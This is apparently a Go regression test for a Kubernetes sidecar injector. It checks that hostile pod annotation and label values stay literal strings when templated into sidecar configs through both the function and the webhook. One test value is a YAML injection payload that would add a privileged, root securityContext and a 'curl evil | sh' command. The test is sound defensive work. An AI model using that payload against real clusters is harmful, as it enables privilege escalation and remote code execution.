package mutate

import (
	"bytes"
	"context"
	"encoding/json"
	"strings"
	"testing"

	admissionv1 "k8s.io/api/admission/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime"
	"sigs.k8s.io/kustomize/kyaml/fn/framework"
	"sigs.k8s.io/kustomize/kyaml/yaml"

	"github.com/sidecar-injector/sidecar-injector/engine"
	"github.com/sidecar-injector/sidecar-injector/engine/config"
	"github.com/sidecar-injector/sidecar-injector/fn/function"
	"github.com/sidecar-injector/sidecar-injector/fn/krmio"
	"github.com/sidecar-injector/sidecar-injector/internal/patchtest"
	"github.com/sidecar-injector/sidecar-injector/webhook/admission"
)

// hostileConfig is the old Helm chart's ConfigMap form, which both front
// ends take unchanged: the function as its functionConfig, the webhook as
// its config file. Its data holds the old injector's sidecar and mutation
// files, which template a sidecar from an annotation and a label in every
// way those files and this project's docs write it: unquoted, in double and
// single quotes, inside a flow list, as part of a value, and in a volume.
// (An unquoted action is not valid YAML in a resource of its own; inside a
// block scalar it is part of a string.)
const hostileConfig = `apiVersion: v1
kind: ConfigMap
metadata:
  name: hostile
data:
  sidecarconfig.yaml: |
    containers:
    - name: vault-agent
      image: example.com/vault:1
      args: ["-role={% annotation "vault.example.com/role" %}", '{% label "team" %}']
      env:
      - name: VAULT_ROLE
        value: {% index .Annotations "vault.example.com/role" %}
      - name: TEAM
        value: "{% label \"team\" %}"
      - name: BOTH
        value: '{% index .Annotations "vault.example.com/role" %}/{% .Labels.team %}'
    volumes:
    - name: creds
      secret:
        secretName: aws-iam-{% annotation "vault.example.com/role" %}
  mutationconfig.yaml: |
    mutationConfigs:
    - name: vault
      annotationNamespace: vault.example.com
      annotationTrigger: inject
      containers: [vault-agent]
      volumes: [creds]
`

// benign stands for the value in the benign case.
const benign = "benign"

// TestHostileValuesStayValues: whatever a pod's annotation or label holds,
// the function and the webhook inject the same structure as for a benign
// value, with the value exactly the pod's string wherever a template
// placed it.
func TestHostileValuesStayValues(t *testing.T) {
	hostile := map[string]string{
		"the issue's payload": "x'\nsecurityContext: {privileged: true, runAsUser: 0}\ncommand: [sh, -c, 'curl evil | sh'] #",
		"newlines":            "a\nb:\n  - c\n",
		"colon space":         "key: value",
		"space hash":          "x #comment",
		"anchor":              "&x",
		"alias":               "*x",
		"null":                "null",
		"tilde":               "~",
		"true":                "true",
		"octal":               "0755",
		"open brace":          "{",
		"open bracket":        "[",
		"double quotes":       `"quoted" "twice`,
		"single quotes":       "'it''s'",
		"backslashes":         `C:\new\table\\"`,
		"document marker":     "---\napiVersion: v1\nkind: Secret",
		"flow list":           "a, b], c: [d",
		"template text":       `{% .Spec.ServiceAccountName %}{{ x }}`,
		"spaces":              "  padded  ",
		"unicode":             "ünï\u2028cødé\t",
		"10k characters":      strings.Repeat("a: [b, {c: d}] #\n", 600)[:10000],
	}
	want := map[string]any{}
	for _, fe := range frontEnds {
		want[fe.name] = injected(fe.inject(t, hostileConfig, hostilePod(benign)))
	}
	// The benign case is the reference for the hostile ones: it must be an
	// injection, the same through both front ends.
	if status := want["webhook"].(map[string]any)["status"]; status != "injected" {
		t.Fatalf("the benign pod was not injected (status %v):\n%s", status, mustJSON(t, want["webhook"]))
	}
	if !jsonEqual(want["function"], want["webhook"]) {
		t.Fatalf("the front ends injected the benign pod differently:\nfunction %s\nwebhook %s",
			mustJSON(t, want["function"]), mustJSON(t, want["webhook"]))
	}
	for name, v := range hostile {
		t.Run(name, func(t *testing.T) {
			for _, fe := range frontEnds {
				got := fe.inject(t, hostileConfig, hostilePod(v))
				// The benign case's structure, with the benign value replaced
				// by the pod's, must be exactly what was injected.
				expected := replaceStrings(want[fe.name], benign, v)
				if gotSpec := injected(got); !jsonEqual(gotSpec, expected) {
					t.Errorf("%s injected\n%s\nwant\n%s", fe.name, mustJSON(t, gotSpec), mustJSON(t, expected))
				}
			}
		})
	}
}

// injected is what injection made of a pod: its spec and the status
// annotation.
func injected(pod map[string]any) any {
	meta, _ := pod["metadata"].(map[string]any)
	annotations, _ := meta["annotations"].(map[string]any)
	return map[string]any{"spec": pod["spec"], "status": annotations["vault.example.com/status"]}
}

// replaceStrings replaces old by new in every string of a JSON value.
func replaceStrings(v any, old, new string) any {
	switch x := v.(type) {
	case string:
		return strings.ReplaceAll(x, old, new)
	case []any:
		out := make([]any, len(x))
		for i, e := range x {
			out[i] = replaceStrings(e, old, new)
		}
		return out
	case map[string]any:
		out := make(map[string]any, len(x))
		for k, e := range x {
			out[k] = replaceStrings(e, old, new)
		}
		return out
	}
	return v
}

func jsonEqual(a, b any) bool {
	ja, _ := json.Marshal(a)
	jb, _ := json.Marshal(b)
	return bytes.Equal(ja, jb)
}

func mustJSON(t *testing.T, v any) string {
	t.Helper()
	b, err := json.MarshalIndent(v, "", "  ")
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// hostilePod is a pod that triggers the mutation, with v in the annotation
// and the label the templates read.
func hostilePod(v string) *corev1.Pod {
	return &corev1.Pod{
		TypeMeta: metav1.TypeMeta{APIVersion: "v1", Kind: "Pod"},
		ObjectMeta: metav1.ObjectMeta{Name: "web", Namespace: "team-a",
			Annotations: map[string]string{"vault.example.com/inject": "true", "vault.example.com/role": v},
			Labels:      map[string]string{"team": v},
		},
		Spec: corev1.PodSpec{Containers: []corev1.Container{{Name: "app", Image: "example.com/app:1"}}},
	}
}

// frontEnds inject a pod holding a value through the function (cfg as the
// functionConfig of a ResourceList, run as the binary runs it) and through
// the webhook's handler (cfg loaded as a config file, an admission request,
// the patch applied), and return the injected pod.
var frontEnds = []struct {
	name   string
	inject func(t *testing.T, cfg string, in *corev1.Pod) map[string]any
}{
	{"function", func(t *testing.T, cfg string, in *corev1.Pod) map[string]any {
		t.Helper()
		functionConfig, err := yaml.Parse(cfg)
		if err != nil {
			t.Fatal(err)
		}
		podJSON, err := json.Marshal(in)
		if err != nil {
			t.Fatal(err)
		}
		item, err := yaml.ConvertJSONToYamlNode(string(podJSON))
		if err != nil {
			t.Fatal(err)
		}
		rl := yaml.NewMapRNode(&map[string]string{"apiVersion": "config.kubernetes.io/v1", "kind": "ResourceList"})
		if err := rl.PipeE(yaml.SetField("functionConfig", functionConfig)); err != nil {
			t.Fatal(err)
		}
		if err := rl.PipeE(yaml.SetField("items", yaml.NewListRNode())); err != nil {
			t.Fatal(err)
		}
		if err := rl.PipeE(yaml.Lookup("items"), yaml.Append(item.YNode())); err != nil {
			t.Fatal(err)
		}
		var out bytes.Buffer
		if _, err := krmio.Execute(framework.ResourceListProcessorFunc(function.Process), strings.NewReader(rl.MustString()), &out); err != nil {
			t.Fatalf("the function failed: %v\n%s", err, out.String())
		}
		result, err := yaml.Parse(out.String())
		if err != nil {
			t.Fatal(err)
		}
		items, err := result.Pipe(yaml.Lookup("items"))
		if err != nil || items == nil || len(items.Content()) != 1 {
			t.Fatalf("the function's output has no single item:\n%s", out.String())
		}
		injected, err := yaml.NewRNode(items.Content()[0]).MarshalJSON()
		if err != nil {
			t.Fatal(err)
		}
		var pod map[string]any
		if err := json.Unmarshal(injected, &pod); err != nil {
			t.Fatal(err)
		}
		return pod
	}},
	{"webhook", func(t *testing.T, cfg string, in *corev1.Pod) map[string]any {
		t.Helper()
		inj, err := engine.Load(config.Source{Name: "config.yaml", Data: []byte(cfg)})
		if err != nil {
			t.Fatal(err)
		}
		raw, err := json.Marshal(in)
		if err != nil {
			t.Fatal(err)
		}
		req := &admission.Request{
			UID:       "hostile",
			Kind:      metav1.GroupVersionKind{Version: "v1", Kind: "Pod"},
			Resource:  metav1.GroupVersionResource{Version: "v1", Resource: "pods"},
			Namespace: "team-a",
			Operation: admissionv1.Create,
			Object:    runtime.RawExtension{Raw: raw},
		}
		h := &Handler{Injector: func() Injector { return inj }}
		resp := h.Handle(context.Background(), req)
		if !resp.Allowed {
			t.Fatalf("the webhook refused the pod: %+v", resp.Result)
		}
		patched, err := patchtest.Apply(raw, resp.Patch)
		if err != nil {
			t.Fatal(err)
		}
		var pod map[string]any
		if err := json.Unmarshal(patched, &pod); err != nil {
			t.Fatal(err)
		}
		return pod
	}},
}
